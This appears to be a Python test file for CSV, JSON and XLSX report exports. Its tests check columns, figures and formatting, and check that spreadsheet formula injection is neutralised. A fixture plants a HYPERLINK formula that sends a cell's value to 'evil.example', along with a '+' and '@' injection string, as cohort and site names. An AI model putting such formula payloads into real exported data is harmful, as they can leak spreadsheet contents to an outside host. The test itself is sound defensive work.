"""CSV, JSON and XLSX exports: the same numbers everywhere, and no formula ever runs."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from datetime import date, datetime

import openpyxl
import pytest

from app.extensions import db
from app.models import Cohort, Site
from app.services import reports
from reports.frames import Filters
from tests.reports.conftest import AS_OF

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your results")'


@pytest.fixture
def evil_names(scenario):
    """A cohort and a site whose names a spreadsheet would run as formulas."""
    cohort = db.session.query(Cohort).filter_by(name="September 2025").one()
    cohort.name = EVIL
    db.session.query(Site).filter_by(name="South").one().name = "+44 South @ward -1"
    db.session.commit()
    return scenario


def render(lead, fmt: str) -> bytes:
    return reports.render(reports.cohort_report(lead, AS_OF, Filters()), fmt)


def test_csv_has_the_contract_columns_and_the_numbers(scenario):
    lines = list(csv.DictReader(io.StringIO(render(scenario.lead, "csv").decode("utf-8"))))
    assert list(lines[0]) == ["organisation", "pathway", "pathway_version", "cohort", "cohort_start", "enrolled",
                              "active", "on_hold", "completed", "withdrawn", "completion_rate", "completed_on_time",
                              "on_time_rate", "median_days_to_complete", "overdue_reviews", "hours_logged",
                              "hours_target", "preceptor_overrides"]  # the last one added  # fmt: skip
    september, empty = lines
    assert september["cohort_start"] == "2025-09-01"
    assert (september["completion_rate"], september["on_time_rate"], september["median_days_to_complete"]) == (
        "0.5", "0.75", "367")  # fmt: skip
    assert (september["hours_logged"], september["hours_target"]) == ("180.5", "185.1")
    assert (empty["cohort"], empty["enrolled"], empty["on_time_rate"], empty["median_days_to_complete"]) == (
        "March 2027", "0", "", "")  # fmt: skip


def test_csv_neutralises_formulas(evil_names):
    text = render(evil_names.lead, "csv").decode("utf-8")
    cohorts = [row["cohort"] for row in csv.DictReader(io.StringIO(text))]
    assert "'" + EVIL in cohorts


def test_json_has_every_view_with_empty_as_null(scenario):
    body = json.loads(render(scenario.lead, "json"))
    assert body["as_of"] == "2026-09-15"
    assert set(body) == {"as_of", "filters", "cohort", "site", "profession", "stage"}
    september, empty = body["cohort"]
    assert september["completed_on_time"] == 3 and september["hours_target"] == 185.1
    assert empty["on_time_rate"] is None and empty["median_days_to_complete"] is None


def test_xlsx_sheets_formats_and_no_formulas(evil_names):
    book = openpyxl.load_workbook(io.BytesIO(render(evil_names.lead, "xlsx")))
    assert book.sheetnames == ["Cohorts", "By site", "By profession", "By stage", "Charts", "About"]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
    cohorts = book["Cohorts"]
    assert cohorts.freeze_panes == "A2"
    header = [c.value for c in cohorts[1]]
    row = dict(zip(header, [c for c in cohorts[2]], strict=True))
    assert row["cohort"].value == "'" + EVIL
    assert row["cohort_start"].value == datetime(2025, 9, 1) and row["cohort_start"].is_date
    assert row["completion_rate"].value == 0.5 and row["completion_rate"].number_format == "0.0%"
    assert cohorts["A1"].font.bold
    assert cohorts.column_dimensions["D"].width > 10
    sites = [c.value for c in book["By site"]["C"]]
    assert "'+44 South @ward -1" in sites
    assert len(book["Charts"]._images) == 3
    about = {r[0].value: r[1].value for r in book["About"].iter_rows(min_row=2) if r[0].value}
    assert about["As of"] == "15 September 2026"
    assert about["on_time_rate"].startswith("Completed on time ÷ completed")


def _office_date(text: str) -> date:
    """LibreOffice writes dates in its locale's short form (here US: 09/01/2025) or ISO."""
    for pattern in ("%Y-%m-%d %H:%M:%S", "%Y-%m-%d", "%m/%d/%Y"):
        try:
            return datetime.strptime(text, pattern).date()
        except ValueError:
            continue
    raise AssertionError(f"not a date: {text!r}")


def _office_number(text: str) -> float | None:
    """A number as LibreOffice writes it: percentages keep their % sign (0.5 -> 50%)."""
    if not text:
        return None
    return round(float(text[:-1]) / 100, 6) if text.endswith("%") else float(text)


LIBREOFFICE = shutil.which("libreoffice") or shutil.which("soffice")


@pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice is not installed (make office installs it)")
def test_xlsx_opened_in_libreoffice_gives_the_csv_numbers(evil_names, tmp_path):
    (tmp_path / "report.xlsx").write_bytes(render(evil_names.lead, "xlsx"))
    subprocess.run(
        [LIBREOFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", "--outdir",
         str(tmp_path / "out"), str(tmp_path / "report.xlsx")],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    converted = tmp_path / "out" / "report-Cohorts.csv"
    assert converted.exists(), "LibreOffice wrote no CSV"
    office = list(csv.DictReader(converted.open(encoding="utf-8")))
    ours = list(csv.DictReader(io.StringIO(render(evil_names.lead, "csv").decode("utf-8"))))
    assert len(office) == len(ours) == 2
    for theirs, mine in zip(office, ours, strict=True):
        assert theirs["cohort"] == mine["cohort"]
        assert _office_date(theirs["cohort_start"]) == date.fromisoformat(mine["cohort_start"])
        for column, value in mine.items():
            if column in ("organisation", "pathway", "cohort", "cohort_start"):
                continue
            assert _office_number(theirs[column]) == (float(value) if value else None), column
    assert office[0]["cohort"] == "'" + EVIL  # text, not a live link
